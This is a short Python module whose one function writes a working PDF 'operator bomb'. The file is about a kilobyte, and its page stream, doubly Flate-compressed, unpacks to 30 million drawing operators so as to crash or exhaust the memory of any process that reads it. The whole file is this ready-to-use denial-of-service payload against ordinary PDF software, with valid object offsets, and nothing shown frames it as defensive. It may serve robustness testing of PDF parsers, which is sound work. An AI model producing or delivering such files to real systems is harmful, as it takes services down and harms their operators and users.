"""PDFs that end the process which reads them, or fill its memory."""

from __future__ import annotations

import zlib
from pathlib import Path

N_OPERATORS = 30_000_000


def write_operator_bomb(path: Path) -> Path:
    """A PDF of about a kilobyte whose page unpacks to millions of drawing operators."""
    content = zlib.compress(zlib.compress(b"0 0 m 1 1 l S " * N_OPERATORS, 9), 9)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
        b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%s\nendstream"
        % (len(content), content),
    ]
    parts, places = [b"%PDF-1.7\n"], []
    for number, body in enumerate(objects, start=1):
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = sum(map(len, parts))
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    parts.append(b"xref\n0 5\n0000000000 65535 f \n" + rows)
    parts.append(b"trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start)
    path.write_bytes(b"".join(parts))
    return path
